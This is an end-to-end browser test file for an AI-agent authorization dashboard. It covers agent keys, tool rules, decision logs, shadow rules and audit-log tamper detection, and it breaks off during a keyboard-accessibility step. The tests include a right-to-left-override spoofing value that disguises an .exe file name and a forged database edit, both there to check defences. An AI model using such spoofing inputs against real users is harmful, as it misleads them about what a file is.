// End-to-end: the built dashboard in headless Chromium against the real worker, one admin's session from
// sign-in to sign-out. The steps share the browser page and build on each other, in order.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { clearArtifacts, launchBrowser, loadSdk, startDashboard, startWorker, stepper, takeSecretOnce } from './support/harness.mjs';

let worker;
let dashboard;
let browser;
let context;
let page;
let sdk;
let admin;
const agent = { name: 'billing-bot', id: '', key: '', oldKey: '' };
const decisions = { allowed: '', denied: '', blank: '' };
const payments = { name: 'payments-bot', id: '', key: '', denied: '', allowRule: '', shadowRule: '' };
const cspViolations = [];
const REASONING = 'Branch feature/login was merged in PR 42; deleting it as the user asked.';

/** A test that leaves a screenshot in test-artifacts/dashboard/ when it fails. */
const step = stepper(it, () => page);

const main = () => page.locator('main');
const nav = (name) => page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name, exact: true });
const heading = (name) => page.getByRole('heading', { level: 1, name, exact: true });
const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
/**
 * Validates, then waits until the decision is in the organization's log list: the list may lag the
 * answer by the documented bound (docs/api.md), and the pages below read it right after.
 */
async function validate(apiKey, body) {
  const decision = await new sdk.OakAuth({ apiKey, baseUrl: worker.baseUrl, allowInsecureLoopback: true }).validate(body);
  for (let i = 0; i < 50; i++) {
    if ((await admin.listLogs({ limit: 50 })).logs.some((e) => e.decision_id === decision.decision_id)) return decision;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`decision ${decision.decision_id} did not reach the log list within 5 s`);
}
const logRow = (decisionId) => page.locator(`li[data-decision-id="${decisionId}"]`);
const eventActions = () => page.getByTestId('event-list').locator(':scope > li').evaluateAll((rows) => rows.map((r) => r.dataset.action));

async function signIn(key) {
  await page.getByLabel('Admin key').fill(key);
  await page.getByRole('button', { name: 'Sign in' }).click();
}

describe('dashboard in a browser', { timeout: 15 * 60_000 }, () => {
  before(async () => {
    await clearArtifacts();
    // Both settle before either failure is thrown, so that `after` stops a worker that did start.
    const [started, loaded] = await Promise.allSettled([startWorker(), loadSdk()]);
    worker = started.value;
    sdk = loaded.value;
    for (const r of [started, loaded]) if (r.status === 'rejected') throw r.reason;
    // The API URL is fixed at build time: the dashboard is built for this worker.
    dashboard = await startDashboard(worker.baseUrl);
    admin = new sdk.OakAuthAdmin({ adminKey: worker.adminKey, baseUrl: worker.baseUrl, allowInsecureLoopback: true });
    browser = await launchBrowser();
    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: dashboard.url });
    context.setDefaultTimeout(30_000);
    page = await context.newPage();
    page.on('pageerror', (err) => console.error(`page error: ${err.message}`));
    page.on('console', (msg) => {
      if (msg.type() === 'error' && /Content Security Policy/i.test(msg.text())) cspViolations.push(msg.text());
    });
  });

  after(async () => {
    await browser?.close();
    await dashboard?.close();
    await worker?.stop();
  });

  step('explains a wrong key and an unreachable API, then signs in', async () => {
    await page.goto(dashboard.url);
    await page.getByTestId('api-url').getByText(`API: ${worker.baseUrl}`).waitFor();
    // The API as unreachable: the browser refuses every request to it.
    const api = `${new URL(worker.baseUrl).origin}/**`;
    await page.route(api, (route) => route.abort('connectionrefused'));
    await signIn(worker.adminKey);
    await page.getByRole('alert').getByText(`Could not reach the API at ${worker.baseUrl}.`).waitFor();
    await page.unroute(api);

    await signIn(`oakadm_${'x'.repeat(40)}`);
    await page.getByRole('alert').getByText('The API did not accept this admin key').waitFor();

    await signIn('oak_not-an-admin-key');
    await page.getByRole('alert').getByText('That is an agent key').waitFor();

    await signIn(worker.adminKey);
    await heading('Overview').waitFor();
    const me = await admin.me();
    await page.getByText(me.organization.name, { exact: true }).waitFor();
    await main().getByText('No decisions in this range yet.').waitFor();

    const storage = await page.evaluate(() => ({
      session: Object.values(sessionStorage),
      local: Object.values(localStorage),
      href: location.href,
    }));
    assert.ok(storage.session.includes(worker.adminKey), 'the key is in sessionStorage');
    assert.ok(!storage.local.some((v) => v.includes('oakadm_')), 'no key in localStorage');
    assert.ok(!storage.href.includes('oakadm_'), 'no key in the URL');

    await page.reload();
    await heading('Overview').waitFor();
  });

  step('creates an agent and shows its key once, with a working copy button', async () => {
    await nav('Agents').click();
    await heading('Agents').waitFor();
    await main().getByText('No agents yet.').waitFor();
    await page.getByRole('button', { name: 'Create your first agent' }).click();
    await page.getByLabel('Name').fill(agent.name);
    await page.getByRole('button', { name: 'Create agent' }).click();

    agent.key = await takeSecretOnce(page, { testId: 'new-api-key', noun: 'key', pattern: /^oak_[A-Za-z0-9]+$/ });

    const row = page.getByTestId('agents-table').getByRole('row', { name: new RegExp(agent.name) });
    await row.getByText('Enabled').waitFor();
    await row.getByText('60 burst, 1/s').waitFor();
    const prefix = (await row.locator('code').textContent()).replace('…', '');
    assert.ok(agent.key.startsWith(prefix), `the listed prefix ${prefix} starts the key`);
  });

  step('adds a tool with scopes and a hard-reasoning rule', async () => {
    await page.getByRole('link', { name: agent.name }).click();
    await heading(agent.name).waitFor();
    agent.id = decodeURIComponent(page.url().split('#/agents/')[1]);
    await main().getByText('No tools yet.').waitFor();

    await page.getByLabel('Tool name').fill('github');
    await page.getByLabel('Scopes').fill('read, delete_branch');
    await page.getByLabel('Risk level').selectOption('destructive');
    await page.getByLabel('Description (optional)').fill('GitHub repositories');
    await page.getByRole('button', { name: 'Add tool' }).click();
    const tools = page.getByTestId('tools-list');
    await tools.getByText('github', { exact: true }).waitFor();
    await tools.getByText('delete_branch', { exact: true }).waitFor();
    await tools.getByText('destructive').waitFor();

    await page.getByLabel('Tool', { exact: true }).selectOption({ label: 'github' });
    await page.getByLabel('Scope', { exact: true }).selectOption('delete_branch');
    await page.getByLabel('Reasoning', { exact: true }).selectOption('hard');
    await page.getByRole('button', { name: 'Add rule' }).click();
    const rule = page.getByTestId('rules-table').getByRole('row', { name: /github delete_branch/ });
    await rule.waitFor();
    assert.equal(await rule.getByRole('combobox').inputValue(), 'hard');

    const { rules } = await admin.listRules(agent.id);
    assert.deepEqual(
      rules.map((r) => [r.tool, r.scope, r.require_reasoning]),
      [['github', 'delete_branch', 'hard']],
    );
  });

  step('the SDK gets one allow and one deny with the copied key', async () => {
    const allowed = await validate(agent.key, {
      tool: 'github',
      scope: 'delete_branch',
      reasoning: REASONING,
      context: { repo: 'oak/web', branch: 'feature/login' },
    });
    assert.equal(allowed.allowed, true);
    assert.equal(allowed.reason, 'allowed');
    const denied = await validate(agent.key, { tool: 'github', scope: 'delete_branch' });
    assert.equal(denied.allowed, false);
    assert.equal(denied.reason, 'reasoning_required');
    decisions.allowed = allowed.decision_id;
    decisions.denied = denied.decision_id;
  });

  step('logs show both decisions, their reasons and the reasoning, and open the full record', async () => {
    await nav('Logs').click();
    await heading('Logs').waitFor();
    const rows = page.getByTestId('log-list').locator(':scope > li');
    await logRow(decisions.allowed).waitFor();
    assert.equal(await rows.count(), 2);
    assert.equal(await rows.first().getAttribute('data-decision-id'), decisions.denied, 'newest first');
    // The list may lag the answers by the documented bound; a decision opened by its id never does.
    await page.getByTestId('log-lag-note').getByText('New decisions reach this list within about a second of their answer; filtered by one agent, it is current.').waitFor();

    const allowed = logRow(decisions.allowed);
    await allowed.getByText('Allowed', { exact: true }).first().waitFor();
    await allowed.getByText(REASONING).waitFor();
    await allowed.getByText(agent.name).waitFor();

    const denied = logRow(decisions.denied);
    await denied.getByText('Denied', { exact: true }).waitFor();
    await denied.getByTestId('log-reason').getByText('Reasoning required').waitFor();
    await denied.getByText('No reasoning given (hard rule)').waitFor();

    await allowed.getByRole('button', { expanded: false }).click();
    await allowed.getByText(decisions.allowed, { exact: true }).waitFor();
    const context = JSON.parse(await allowed.getByTestId('log-context').textContent());
    assert.deepEqual(context, { repo: 'oak/web', branch: 'feature/login' });
    await allowed.getByText(/^\d+ ms$/).waitFor();
    await allowed.getByText(/^req_/).waitFor();

    await allowed.getByRole('link', { name: 'Link to this decision' }).click();
    await heading('Decision').waitFor();
    await main().getByText(decisions.allowed, { exact: true }).waitFor();
    await main().getByText(REASONING).waitFor();
  });

  step('filters the logs by decision, reason, tool, agent and time', async () => {
    await nav('Logs').click();
    const rows = page.getByTestId('log-list').locator(':scope > li');
    await logRow(decisions.allowed).waitFor();

    await page.getByLabel('Decision', { exact: true }).selectOption('false');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await logRow(decisions.allowed).waitFor({ state: 'detached' });
    assert.equal(await rows.count(), 1);
    await logRow(decisions.denied).waitFor();
    assert.match(page.url(), /allowed=false/);
    assert.ok(!page.url().includes('oakadm_'));

    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await logRow(decisions.allowed).waitFor();
    await page.getByLabel('Reason', { exact: true }).selectOption('allowed');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await logRow(decisions.denied).waitFor({ state: 'detached' });
    assert.equal(await rows.count(), 1);

    // Clearing remounts the form once the new address is handled: wait for it (a row the last
    // filter hid is back) before typing, or the typing lands in the form that is going away.
    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await logRow(decisions.denied).waitFor();
    await page.getByLabel('Tool', { exact: true }).fill('slack');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await main().getByText('No decisions match these filters.').waitFor();

    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await logRow(decisions.allowed).waitFor();
    await page.getByLabel('Agent', { exact: true }).selectOption({ label: agent.name });
    await page.getByLabel('Scope', { exact: true }).fill('delete_branch');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    // Both rows were already shown unfiltered: wait for the filtered page (and its new form).
    await main().getByText('That is the oldest decision matching these filters.').waitFor();
    await logRow(decisions.allowed).waitFor();
    await logRow(decisions.denied).waitFor();

    await page.getByLabel('From', { exact: true }).fill('2099-01-01T00:00');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await main().getByText('No decisions match these filters.').waitFor();
    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await logRow(decisions.denied).waitFor();
  });

  step('live mode shows a new decision without a reload', async () => {
    await page.getByRole('checkbox', { name: 'Live' }).check();
    const denied = await validate(agent.key, { tool: 'github', scope: 'read', reasoning: 'check the README' });
    assert.equal(denied.reason, 'scope_not_granted');
    const row = logRow(denied.decision_id);
    await row.waitFor({ timeout: 20_000 });
    await row.getByText('Scope not granted').waitFor();
    await row.getByText('check the README').waitFor();

    const blank = await validate(agent.key, { tool: 'github', scope: 'delete_branch', reasoning: '   ' });
    assert.equal(blank.reason, 'reasoning_required');
    decisions.blank = blank.decision_id;
    await logRow(blank.decision_id).getByText('Only blank reasoning given (hard rule)').waitFor({ timeout: 20_000 });
    await page.getByRole('checkbox', { name: 'Live' }).uncheck();
  });

  step('the overview counts requests and denials, by reason, tool and agent', async () => {
    await nav('Overview').click();
    await heading('Overview').waitFor();
    await page.getByTestId('metric-total').getByText('4', { exact: true }).waitFor();
    await page.getByTestId('metric-allowed').getByText('1', { exact: true }).waitFor();
    await page.getByTestId('metric-denied').getByText('3', { exact: true }).waitFor();
    const reasons = page.getByTestId('denials-by-reason');
    await reasons.getByRole('link', { name: 'Reasoning required' }).waitFor();
    await reasons.getByRole('link', { name: 'Scope not granted' }).waitFor();
    await main().getByRole('img', { name: /1 allowed and 3 denied/ }).waitFor();
    await main().getByRole('row', { name: /github 4 3/ }).waitFor();
    await main().getByRole('row', { name: new RegExp(`${agent.name} 4 1 3`) }).waitFor();
    // Today's decision latency: the row the API computes (nearest rank) for today's four decisions.
    const { latency } = await admin.stats();
    assert.equal(latency.length, 1);
    const [day] = latency;
    assert.equal(day.decisions, 4);
    assert.ok(day.p50_ms <= day.p95_ms && day.p95_ms <= day.p99_ms);
    const row = page.getByTestId('latency-table').getByRole('row', { name: `${day.day} 4 ${day.p50_ms} ms ${day.p95_ms} ms ${day.p99_ms} ms`, exact: true });
    await row.waitFor();

    await reasons.getByRole('link', { name: 'Reasoning required' }).click();
    await heading('Logs').waitFor();
    await logRow(decisions.denied).waitFor();
    await logRow(decisions.blank).waitFor();
    assert.equal(await page.getByTestId('log-list').locator(':scope > li').count(), 2);
  });

  step('edits the rate limit, disables and re-enables the agent', async () => {
    await nav('Agents').click();
    await page.getByRole('link', { name: agent.name }).click();
    await heading(agent.name).waitFor();
    await page.getByLabel('Burst (requests)').fill('5');
    await page.getByLabel('Refill (per second)').fill('0.5');
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.getByText('Settings saved.').waitFor();
    const saved = await admin.getAgent(agent.id);
    assert.deepEqual(saved.rate_limit, { capacity: 5, refill_per_second: 0.5 });

    await page.getByRole('button', { name: 'Disable agent' }).click();
    await main().getByText('Disabled', { exact: true }).waitFor();
    const off = await validate(agent.key, { tool: 'github', scope: 'delete_branch', reasoning: REASONING });
    assert.equal(off.reason, 'agent_disabled');

    await page.getByRole('button', { name: 'Enable agent' }).click();
    await main().getByText('Enabled', { exact: true }).waitFor();
    const on = await validate(agent.key, { tool: 'github', scope: 'delete_branch', reasoning: REASONING });
    assert.equal(on.reason, 'allowed');

    await nav('Agents').click();
    const row = page.getByTestId('agents-table').getByRole('row', { name: new RegExp(agent.name) });
    await row.getByText('5 burst, 0.5/s').waitFor();
    await row.getByText('Enabled').waitFor();
  });

  step('rotates the key: the new key is shown once and the old one stops working', async () => {
    await page.getByRole('link', { name: agent.name }).click();
    await page.getByRole('button', { name: 'Rotate key' }).click();
    const dialog = page.getByRole('dialog', { name: "Rotate this agent's key?" });
    await dialog.getByLabel('Old key').selectOption('0');
    await dialog.getByRole('button', { name: 'Rotate key' }).click();
    await dialog.waitFor({ state: 'hidden' });

    const shown = page.getByTestId('new-api-key');
    agent.oldKey = agent.key;
    agent.key = (await shown.textContent()).trim();
    assert.match(agent.key, /^oak_/);
    assert.notEqual(agent.key, agent.oldKey);
    await page.getByText('It is shown only once').waitFor();
    await page.getByRole('button', { name: 'Copy key' }).click();
    assert.equal(await clipboard(), agent.key);
    const prefix = (await page.getByTestId('key-prefix').textContent()).replace('…', '');
    assert.ok(agent.key.startsWith(prefix));

    await assert.rejects(validate(agent.oldKey, { tool: 'github', scope: 'read' }), (err) => err.status === 401);
    const fresh = await validate(agent.key, { tool: 'github', scope: 'delete_branch', reasoning: REASONING });
    assert.equal(fresh.allowed, true);
    await page.getByRole('button', { name: 'I have stored the key' }).click();
    await shown.waitFor({ state: 'detached' });
  });

  step('the activity view lists the admin actions, newest first, filters by agent and pages', async () => {
    await nav('Activity').click();
    await heading('Activity').waitFor();
    const list = page.getByTestId('event-list');
    await list.locator('li[data-action="agent.rotate_key"]').waitFor();
    const ours = ['agent.rotate_key', 'agent.enable', 'agent.disable', 'agent.update', 'rule.create', 'tool.create', 'agent.create'];
    assert.deepEqual(await eventActions(), ours);
    const me = await admin.me();
    const created = list.locator('li[data-action="agent.create"]');
    await created.getByText('Agent created').waitFor();
    await created.getByRole('link', { name: agent.name }).waitFor();
    await created.getByText(`${me.key_prefix}…`).waitFor();
    const rule = list.locator('li[data-action="rule.create"]');
    await rule.getByText('Rule added').waitFor();
    await rule.getByText('delete_branch', { exact: true }).waitFor();
    await rule.getByText('require reasoning: hard').waitFor();
    await list.locator('li[data-action="agent.update"]').getByText('rate limit: 5 burst, 0.5/s').waitFor();
    await list.locator('li[data-action="tool.create"]').getByText('github', { exact: true }).waitFor();
    assert.ok(!(await page.content()).includes(agent.key), 'no key on the page');

    // Another agent with more changes than one page holds, made with the SDK, then deleted.
    const other = await admin.createAgent({ name: 'scratch-bot' });
    for (let i = 0; i < 22; i++) {
      await admin.updateAgent(other.agent.id, { enabled: false });
      await admin.updateAgent(other.agent.id, { enabled: true });
    }
    await admin.deleteAgent(other.agent.id);
    await page.getByRole('button', { name: 'Refresh' }).click();
    await list.locator('li[data-action="agent.delete"]').waitFor();
    const firstPage = await eventActions();
    assert.equal(firstPage.length, 50, 'one page of 50');
    assert.equal(firstPage[0], 'agent.delete', 'newest first');
    await list.locator('li[data-action="agent.delete"]').getByText('scratch-bot (deleted)').waitFor();
    await page.getByRole('button', { name: 'Load older events' }).click();
    await main().getByText('That is the oldest event.').waitFor();
    const all = await eventActions();
    assert.equal(all.length, 46 + ours.length);
    assert.deepEqual(all.slice(-ours.length), ours);

    await page.getByLabel('Agent', { exact: true }).selectOption({ label: agent.name });
    await page.getByRole('button', { name: 'Apply filter' }).click();
    await list.locator('li[data-action="agent.delete"]').waitFor({ state: 'detached' });
    assert.deepEqual(await eventActions(), ours);
    assert.match(page.url(), new RegExp(`#/activity\\?agent_id=${agent.id}`));
    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await list.locator('li[data-action="agent.delete"]').waitFor();
  });

  step('verifies the audit log: intact, then a row rewritten in the database is named', async () => {
    await nav('Activity').click();
    const card = page.getByTestId('verify-audit');
    await card.getByRole('button', { name: 'Verify audit log' }).click();
    await card.getByTestId('verify-ok').getByText('Intact.').waitFor();
    const ours = card.getByTestId('verify-table').locator(`tr[data-agent-id="${agent.id}"]`);
    await ours.getByText('Intact').waitFor();
    await ours.getByRole('rowheader', { name: agent.name }).waitFor();
    const chain = (await admin.verifyAudit({ agent_id: agent.id })).agents[0];
    await ours.getByRole('cell', { name: String(chain.head_seq) }).first().waitFor();
    assert.equal(await card.getByTestId('verify-broken').count(), 0);

    // Someone turns the denied decision into an allow directly in the database.
    await worker.forgeAllow(decisions.denied);
    assert.equal((await admin.getLog(decisions.denied)).allowed, true, 'the edit took');
    await card.getByRole('button', { name: 'Verify audit log' }).click();
    const alarm = card.getByRole('alert').filter({ hasText: 'The audit log has been tampered with' });
    await alarm.waitFor();
    const link = alarm.locator(`li[data-agent-id="${agent.id}"]`);
    assert.equal(await link.getByTestId('broken-decision').textContent(), decisions.denied);
    assert.equal(await link.getByTestId('broken-seq').textContent(), '2', 'the second decision: the first checks out');
    await link.getByText('row content does not match its hash: the row was modified').waitFor();
    await ours.getByText('Broken at row 2').waitFor();
    await card.getByTestId('verify-ok').waitFor({ state: 'detached' });

    await link.getByRole('link', { name: 'Open this decision' }).click();
    await heading('Decision').waitFor();
    await main().getByText(decisions.denied, { exact: true }).waitFor();
  });

  // Policies: a second agent whose rules have effects, conditions and modes. Made after the activity and audit
  // steps (which count this organization's events and chains), and deleted at the end of these steps.
  step('a rule with a condition built in the form denies a call that breaks it, and the logs explain why', async () => {
    const created = await admin.createAgent({ name: payments.name });
    payments.id = created.agent.id;
    payments.key = created.api_key;
    const inputSchema = {
      type: 'object',
      properties: { amount: { type: 'number' }, memo: { type: 'string' }, currency: { type: 'string' } },
      additionalProperties: false,
    };
    await admin.createTool(payments.id, { name: 'payments', scopes: ['send'], risk_level: 'read', input_schema: inputSchema });
    await page.goto(`${dashboard.url}/#/agents/${payments.id}`);
    await heading(payments.name).waitFor();
    await page.getByTestId('tools-list').getByText('payments', { exact: true }).waitFor();
    // The tool's input schema is shown on request.
    await page.getByTestId('tools-list').getByText('Input schema: arguments that do not fit it are denied').click();
    assert.deepEqual(JSON.parse(await page.getByTestId('tool-input-schema').textContent()), inputSchema);

    // The API checks the condition and names it: shown next to the form, nothing saved.
    await page.getByRole('button', { name: 'Add condition' }).click();
    await page.getByLabel('Condition 1 pointer').fill('amount');
    await page.getByLabel('Condition 1 operator').selectOption('lt');
    await page.getByLabel('Condition 1 value').fill('500');
    await page.getByRole('button', { name: 'Add rule' }).click();
    await page.locator('form[aria-labelledby="add-rule-title"]').getByRole('alert').getByText(/conditions\[0\]/).waitFor();
    assert.deepEqual((await admin.listRules(payments.id)).rules, []);

    await page.getByLabel('Condition 1 pointer').fill('/amount');
    await page.getByLabel('Effect', { exact: true }).selectOption('allow');
    await page.getByLabel('Rule description').fill(`Small payments\u202Eonly`);
    await page.getByRole('button', { name: 'Add rule' }).click();
    const row = page.getByTestId('rules-table').locator('tbody tr').first();
    await row.getByText('arguments /amount lt 500', { exact: true }).waitFor();
    // The bidi override in the description is shown escaped, not obeyed.
    assert.equal(await row.getByTestId('rule-description').textContent(), 'Small payments\\u{202e}only');
    await row.getByText('allow', { exact: true }).waitFor();
    assert.equal(await row.getByTestId('shadow-badge').count(), 0);
    const [rule] = (await admin.listRules(payments.id)).rules;
    payments.allowRule = rule.id;
    assert.equal(rule.effect, 'allow');
    assert.equal(rule.mode, 'enforce');
    assert.equal(rule.conditions.length, 1);
    assert.deepEqual(
      { pointer: rule.conditions[0].pointer, op: rule.conditions[0].op, value: rule.conditions[0].value, on_missing: rule.conditions[0].on_missing },
      { pointer: '/amount', op: 'lt', value: 500, on_missing: 'deny' },
    );

    const denied = await validate(payments.key, { tool: 'payments', scope: 'send', arguments: { amount: 900, memo: 'invoice\u202Efdp.exe' } });
    assert.equal(denied.allowed, false);
    assert.equal(denied.reason, 'conditions_not_met');
    assert.ok(denied.explanation?.message, 'the deny is explained');
    payments.denied = denied.decision_id;
    const allowed = await validate(payments.key, { tool: 'payments', scope: 'send', arguments: { amount: 100 } });
    assert.equal(allowed.allowed, true);

    await nav('Logs').click();
    await heading('Logs').waitFor();
    const deniedRow = logRow(payments.denied);
    await deniedRow.getByTestId('log-reason').getByText('Conditions not met').waitFor();
    assert.equal(await deniedRow.getByTestId('log-explanation').textContent(), denied.explanation.message);
    assert.equal(await logRow(allowed.decision_id).getByTestId('log-explanation').count(), 0, 'an allowed row has no explanation');
    await deniedRow.getByRole('button', { expanded: false }).click();
    const shown = await deniedRow.getByTestId('log-arguments').textContent();
    assert.ok(shown.includes('invoice\\u{202e}fdp.exe'), `arguments are shown escaped: ${shown}`);
    assert.deepEqual(JSON.parse(shown.replace('\\u{202e}', '')), { amount: 900, memo: 'invoicefdp.exe' });
    const test = deniedRow.getByTestId('explanation').getByTestId('condition-result');
    await test.getByText('arguments /amount lt').waitFor();
    await test.getByText('900', { exact: true }).waitFor();
    await deniedRow.getByTestId('explanation').getByText(rule.id, { exact: true }).waitFor();
  });

  step('a shadow rule shows its badge, the shadow filter finds what it would have denied, and enforcing it takes a confirmation', async () => {
    await page.goto(`${dashboard.url}/#/agents/${payments.id}`);
    await heading(payments.name).waitFor();
    await page.getByLabel('Effect', { exact: true }).selectOption('deny');
    await page.getByLabel('Mode', { exact: true }).selectOption('shadow');
    await page.getByLabel('Rule description').fill('Large payments');
    // One test in the form, then the combinators as JSON.
    await page.getByRole('button', { name: 'Add condition' }).click();
    await page.getByLabel('Condition 1 pointer').fill('/amount');
    await page.getByLabel('Condition 1 operator').selectOption('gte');
    await page.getByLabel('Condition 1 value').fill('200');
    await page.getByRole('checkbox', { name: 'Edit as JSON' }).check();
    const json = page.getByLabel('Conditions as JSON');
    assert.deepEqual(JSON.parse(await json.inputValue()), [{ source: 'arguments', pointer: '/amount', op: 'gte', value: 200, on_missing: 'deny' }]);
    await json.fill(
      JSON.stringify([
        { any_of: [{ pointer: '/amount', op: 'gte', value: 200, on_missing: 'deny' }, { pointer: '/currency', op: 'not_in', value: ['EUR', 'USD'], on_missing: 'skip' }] },
      ]),
    );
    await page.getByRole('button', { name: 'Add rule' }).click();
    const row = page.getByTestId('rules-table').locator('tr[data-mode="shadow"]');
    await row.getByTestId('shadow-badge').getByText('shadow').waitFor();
    await row.getByText('deny', { exact: true }).waitFor();
    await row.getByText('Large payments').waitFor();
    await row.getByText('any of (arguments /amount gte 200; arguments /currency not_in ["EUR","USD"] (skip if missing))').waitFor();
    payments.shadowRule = await row.getAttribute('data-rule-id');
    assert.equal((await admin.getRule(payments.id, payments.shadowRule)).mode, 'shadow');

    // Allowed by the allow rule; the shadow deny rule would have denied it.
    const shadowed = await validate(payments.key, { tool: 'payments', scope: 'send', arguments: { amount: 300 } });
    assert.equal(shadowed.allowed, true);
    const small = await validate(payments.key, { tool: 'payments', scope: 'send', arguments: { amount: 50, currency: 'EUR' } });
    assert.equal(small.allowed, true);

    await nav('Logs').click();
    await logRow(small.decision_id).waitFor();
    await page.getByRole('checkbox', { name: 'Would have been denied by a shadow rule' }).check();
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await logRow(small.decision_id).waitFor({ state: 'detached' });
    assert.match(page.url(), /shadow=deny/);
    const rows = page.getByTestId('log-list').locator(':scope > li');
    assert.deepEqual(await rows.evaluateAll((els) => els.map((e) => e.dataset.decisionId)), [shadowed.decision_id]);
    const found = logRow(shadowed.decision_id);
    await found.getByTestId('log-shadow-deny').waitFor();
    await found.getByRole('button', { expanded: false }).click();
    const shadowList = found.getByTestId('log-shadow');
    await shadowList.getByText(payments.shadowRule).waitFor();
    await shadowList.getByText('denied', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'Clear', exact: true }).click();
    await logRow(small.decision_id).waitFor();

    // Enforcing it: one click, then a confirmation; cancelling changes nothing.
    await page.goto(`${dashboard.url}/#/agents/${payments.id}`);
    const shadowRow = page.getByTestId('rules-table').locator(`tr[data-rule-id="${payments.shadowRule}"]`);
    await shadowRow.getByRole('button', { name: 'Enforce rule payments send' }).click();
    const dialog = page.getByRole('dialog', { name: 'Enforce this rule?' });
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
    assert.equal((await admin.getRule(payments.id, payments.shadowRule)).mode, 'shadow');
    await shadowRow.getByRole('button', { name: 'Enforce rule payments send' }).click();
    await dialog.getByRole('button', { name: 'Enforce rule' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await shadowRow.getByTestId('shadow-badge').waitFor({ state: 'detached' });
    assert.equal(await shadowRow.getAttribute('data-mode'), 'enforce');
    assert.equal((await admin.getRule(payments.id, payments.shadowRule)).mode, 'enforce');
    const enforced = await validate(payments.key, { tool: 'payments', scope: 'send', arguments: { amount: 300 } });
    assert.equal(enforced.reason, 'denied_by_rule');
  });

  step('the simulate panel shows the decision, its explanation and the trace, and writes nothing', async () => {
    try {
      await simulatePanel();
    } finally {
      // The later steps expect the first agent to be the organization's last.
      if (payments.id) await admin.deleteAgent(payments.id);
    }
  });

  async function simulatePanel() {
    const before = (await admin.listLogs({ agent_id: payments.id, limit: 200 })).logs.length;
    const panel = page.getByTestId('simulate');
    await panel.getByText('Nothing is written').first().waitFor();
    await panel.getByLabel('Simulated tool').fill('payments');
    await panel.getByLabel('Simulated scope').fill('send');
    await panel.getByLabel('Simulated reasoning').fill('paying the supplier');
    await panel.getByLabel('Simulated arguments (JSON)').fill('{"amount": 900');
    await panel.getByRole('button', { name: 'Simulate' }).click();
    await panel.getByRole('alert').getByText('The arguments are not valid JSON').waitFor();
    await panel.getByLabel('Simulated arguments (JSON)').fill('{"amount": 900}');
    await panel.getByRole('button', { name: 'Simulate' }).click();

    const result = panel.getByTestId('simulate-result');
    await result.getByText('Denied', { exact: true }).waitFor();
    await result.getByTestId('simulate-reason').getByText('Denied by rule').waitFor();
    const sim = await admin.simulate({
      agent_id: payments.id,
      request: { tool: 'payments', scope: 'send', reasoning: 'paying the supplier', arguments: { amount: 900 } },
    });
    assert.equal(await result.getByTestId('simulate-message').textContent(), sim.message);
    await result.getByTestId('explanation').getByText(sim.explanation.message).waitFor();
    const trace = result.getByTestId('simulate-trace');
    const outcomes = await trace.locator('tbody tr').evaluateAll((rows) => rows.map((r) => [r.dataset.ruleId, r.dataset.outcome]));
    assert.deepEqual(
      outcomes,
      sim.trace.map((t) => [t.rule_id, t.outcome]),
    );
    assert.deepEqual(Object.fromEntries(outcomes), { [payments.allowRule]: 'not_matched', [payments.shadowRule]: 'matched' });
    await trace.locator(`tr[data-rule-id="${payments.shadowRule}"]`).getByText('Large payments').waitFor();
    await trace.locator(`tr[data-rule-id="${payments.shadowRule}"]`).getByText('arguments /amount gte 200', { exact: true }).waitFor();

    await panel.getByLabel('Simulated arguments (JSON)').fill('{"amount": 50, "currency": "EUR"}');
    await panel.getByRole('button', { name: 'Simulate' }).click();
    await result.getByText('Allowed', { exact: true }).waitFor();
    await trace.locator(`tr[data-rule-id="${payments.allowRule}"][data-outcome="matched"]`).waitFor();

    assert.equal((await admin.listLogs({ agent_id: payments.id, limit: 200 })).logs.length, before, 'simulating logged nothing');
  }

  step('fits a phone screen without sideways scrolling', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    try {
      for (const [link, ready] of [
        ['Overview', () => page.getByTestId('metric-total').waitFor()],
        ['Agents', () => page.getByTestId('agents-table').waitFor()],
        ['Logs', () => page.getByTestId('log-list').waitFor()],
      ]) {
        await nav(link).click();
        await ready();
        const { scroll, width } = await page.evaluate(() => ({
          scroll: document.documentElement.scrollWidth,
          width: window.innerWidth,
        }));
        assert.ok(scroll <= width, `${link}: page is ${scroll}px wide on a ${width}px screen`);
      }
      await page.getByTestId('log-list').locator('li').first().getByRole('button').click();
      const { scroll, width } = await page.evaluate(() => ({
        scroll: document.documentElement.scrollWidth,
        width: window.innerWidth,
      }));
      assert.ok(scroll <= width, `an open log record is ${scroll}px wide on a ${width}px screen`);

      // The activity list and a broken chain's report, with its long ids and problem sentence.
      await nav('Activity').click();
      await page.getByTestId('event-list').waitFor();
      await page.getByRole('button', { name: 'Verify audit log' }).click();
      await page.getByTestId('broken-link').first().waitFor();
      const verified = await page.evaluate(() => ({ scroll: document.documentElement.scrollWidth, width: window.innerWidth }));
      assert.ok(verified.scroll <= verified.width, `a broken chain's report is ${verified.scroll}px wide on a ${verified.width}px screen`);
    } finally {
      await page.setViewportSize({ width: 1280, height: 800 });
    }
  });

  step('is usable from the keyboard: skip link, navigation, dialogs that Escape closes', async () => {
    await page.goto(`${dashboard.url}/#/overview`);
    await page.reload();
    await heading('Overview').waitFor();
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), 'Skip to content');
    let found = false;
    for (let i = 0; i < 8 && !found; i++) {
      await page.keyboard.press('Tab');
      found = (await page.evaluate(() => document.activeElement?.textContent)) === 'Agents';
    }
